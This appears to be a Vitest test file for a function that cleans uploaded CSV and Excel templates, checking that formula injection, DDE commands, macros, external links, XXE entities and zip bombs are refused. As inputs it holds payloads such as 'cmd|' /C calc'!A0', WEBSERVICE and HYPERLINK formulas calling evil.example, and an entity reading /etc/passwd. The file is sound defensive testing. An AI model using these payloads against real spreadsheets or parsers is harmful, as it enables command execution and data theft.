import { strFromU8, unzipSync } from "fflate";
import { readSheet } from "read-excel-file/node";
import { describe, expect, it } from "vitest";
import { rewriteTemplate } from "../../../src/server/settings/templates/rewrite.ts";
import { type BookOptions, type SheetCell, sheetOf, sheetXml, workbook } from "../../support/xlsx.ts";
import { zipOf } from "../../support/zips.ts";

const csv = async (text: string) => (await rewriteTemplate("csv", Buffer.from(text))).toString("utf8");
const book = (rows: readonly (readonly SheetCell[])[], options: BookOptions = {}) =>
  rewriteTemplate("xlsx", sheetOf(rows, options));
const formula = (text: string, value = "1") => ({ xml: `<c><f>${text}</f><v>${value}</v></c>` });

describe("a CSV template", () => {
  it.each([
    ["a,b\n1,2\n", "a,b\r\n1,2\r\n"],
    ['\uFEFF"a,1",b\r\n"say ""x""","two\nlines"\r\n', '"a,1",b\r\n"say ""x""","two\nlines"\r\n'],
    ["sep=;\na;b,c\n1;2\n", "a;b,c\r\n1;2\r\n"],
    ["a\tb\n1\t2\n", "a\tb\r\n1\t2\r\n"],
    ["Tên,Größe\n\nÁo,L\n", "Tên,Größe\r\nÁo,L\r\n"],
    ["a\r1\r", "a\r\n1\r\n"],
  ])("keeps its cells and its delimiter: %j", async (given, written) => {
    expect(await csv(given)).toBe(`\uFEFF${written}`);
    expect(await csv(await csv(given)), "written again").toBe(`\uFEFF${written}`);
  });

  it.each(["=1+2", "+1 555 0100", "-5", "@name", "\t=1", "＝1"])(
    "turns a cell that begins like a formula into text: %j",
    async (cell) => expect(await csv(`a,b\n"${cell}",x\n`)).toBe(`\uFEFFa,b\r\n'${cell},x\r\n`),
  );

  it.each([
    ["=cmd|' /C calc'!A0", "the formula starts another program (DDE). Remove it"],
    ["@SUM(1+9)*cmd|' /C calc'!A0", "the formula starts another program (DDE). Remove it"],
    [" -2+3+cmd|' /C calc'!A0", "the formula starts another program (DDE). Remove it"],
    ['=HYPERLINK(""https://evil.example/""&A1)', "the formula calls HYPERLINK. Replace it by its value"],
    ['＝webservice (""https://evil.example"")', "the formula calls WEBSERVICE. Replace it by its value"],
    ['=IMPORTXML(""https://evil.example"";""//a"")', "the formula calls IMPORTXML. Replace it by its value"],
    ["='[Prices.xlsx]Sheet1'!A1", "the formula reads another file. Replace it by its value"],
  ])("is refused for a formula that reaches out: %j", async (cell, why) => {
    await expect(csv(`a,b\nx,"${cell}"\n`)).rejects.toThrow(`Row 2, column B: ${why}`);
  });

  it.each([
    ["<html><script>alert(1)</script>", "the wrong kind of file: a web page (HTML)"],
    ["PK\x03\x04", "the wrong kind of file: an Excel workbook (.xlsx) or another ZIP archive"],
    ["\n\n", "the file is empty"],
    ['a,"b\n1,2\n', "the quotes do not match"],
    [
      Array.from({ length: 201 }, (_, n) => n).join(","),
      "Row 1, column GS: a template file has at most 200 columns",
    ],
    ["a\n".repeat(20_001), "a template file has at most 20,000 rows"],
  ])("is refused where it is none, or too large: %#", async (given, why) => {
    await expect(csv(given)).rejects.toThrow(why);
  });

  it("is refused in an encoding that has to be guessed", async () => {
    await expect(rewriteTemplate("csv", Buffer.from("Größe\n", "latin1"))).rejects.toThrow("not in UTF-8");
  });
});

describe("a workbook template", () => {
  it("keeps visible sheets, their names, widths, texts and numbers, and nothing else", async () => {
    const rows = [
      ["SKU", "Zip", "Price", "On"],
      ["TEE", "01234", 9.5, true],
      [],
      ["=1+1", "_x005F_x0041_", { xml: '<c s="1"><v>45000</v></c>' }, formula("B2*2", "19")],
    ];
    const widths = '<cols><col min="1" max="2" width="31.5"/><col min="3" max="16384" width="9"/></cols>';
    const bytes = await rewriteTemplate(
      "xlsx",
      workbook(
        [
          { xml: sheetXml(rows).replace("<sheetData>", `${widths}<sheetData>`) },
          { rows: [["a secret"]], state: "hidden" },
          { rows: [["second"]] },
        ],
        {
          formats: [0, 14],
          parts: {
            "xl/drawings/drawing1.xml": "<x>a secret</x>",
            "docProps/core.xml": "<creator>a secret</creator>",
            "xl/comments1.xml": "<x>a secret</x>",
          },
        },
      ),
    );
    expect(await readSheet(bytes, "S1")).toEqual([
      ["SKU", "Zip", "Price", "On"],
      ["TEE", "01234", 9.5, "TRUE"],
      [null, null, null, null],
      ["=1+1", "_x0041_", "2023-03-15", 19],
    ]);
    expect(await readSheet(bytes, "S3")).toEqual([["second"]]);
    const parts = Object.entries(unzipSync(bytes)).map(([name, part]) => [name, strFromU8(part)] as const);
    const all = parts.map(([, text]) => text).join("\n");
    expect(all).not.toMatch(/a secret|<f>/);
    expect(all).toMatch(/<col [^>]*min="1"[^>]*width="31\.5"/);
    expect(parts.find(([name]) => name === "xl/workbook.xml")?.[1]).not.toContain("S2");
  });

  it("leaves hidden rows out", async () => {
    const xml = sheetXml([["a"], ["a secret"], ["b"]]).replace('<row r="2">', '<row r="2" hidden="1">');
    expect(await readSheet(await rewriteTemplate("xlsx", workbook([{ xml }])))).toEqual([["a"], ["b"]]);
  });

  it.each([
    ["xl/vbaProject.bin", "macros"],
    ["xl/macrosheets/sheet1.xml", "macros"],
    ["xl/externalLinks/externalLink1.xml", "links to other files"],
    ["xl/connections.xml", "connections to other data"],
    ["xl/queryTables/queryTable1.xml", "connections to other data"],
    ["xl/embeddings/oleObject1.bin", "embedded files or controls"],
    ["xl/activeX/activeX1.xml", "embedded files or controls"],
    ["customUI/customUI14.xml", "add-ins"],
  ])("is refused for its part %s", async (name, what) => {
    await expect(book([["a"]], { parts: { [name]: "x" } })).rejects.toThrow(
      `the workbook holds ${what}, which sellers must not get`,
    );
  });

  it.each([
    ["cmd|'/c calc'!A0", "the formula starts another program (DDE)"],
    ["HYPERLINK(&quot;https://evil.example&quot;)", "the formula calls HYPERLINK"],
    ["_xlfn.WEBSERVICE(A1)", "the formula calls WEBSERVICE"],
    ["[1]Sheet1!$A$1", "the formula reads another file"],
  ])("is refused for the formula %s", async (text, why) => {
    await expect(book([["a"], ["x", formula(text)]])).rejects.toThrow(`Row 2, column B: ${why}`);
  });

  it("is refused for a formula in a validation, and for a text that becomes one", async () => {
    const validation = `<dataValidations><dataValidation><formula1>WEBSERVICE("x")</formula1></dataValidation></dataValidations>`;
    const xml = sheetXml([["a"]]).replace("</sheetData>", `</sheetData>${validation}`);
    await expect(rewriteTemplate("xlsx", workbook([{ xml }]))).rejects.toThrow("calls WEBSERVICE");
    await expect(book([["=cmd|' /C calc'!A0"]])).rejects.toThrow(
      "Row 1, column A: the formula starts another program",
    );
  });

  it("is refused where it declares entities, unpacks to too much, or has too many sheets", async () => {
    const doctype = '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet>&e;</worksheet>';
    await expect(rewriteTemplate("xlsx", workbook([{ xml: doctype }]))).rejects.toThrow("DOCTYPE");
    const bomb = zipOf([
      { name: "xl/workbook.xml", bytes: Buffer.from("<workbook/>") },
      { name: "xl/worksheets/sheet1.xml", bytes: Buffer.alloc(30 * 1024 * 1024, 32) },
    ]);
    expect(bomb.length).toBeLessThan(100_000);
    await expect(rewriteTemplate("xlsx", bomb)).rejects.toThrow("unpacks to more than 100 times its size");
    const many = workbook(Array.from({ length: 21 }, () => ({ rows: [["a"]] })));
    await expect(rewriteTemplate("xlsx", many)).rejects.toThrow("at most 20 sheets");
    await expect(book([])).rejects.toThrow("no sheet of the workbook holds a row");
    await expect(rewriteTemplate("xlsx", Buffer.from("PK\x03\x04 no archive"))).rejects.toThrow("damaged");
  });
});
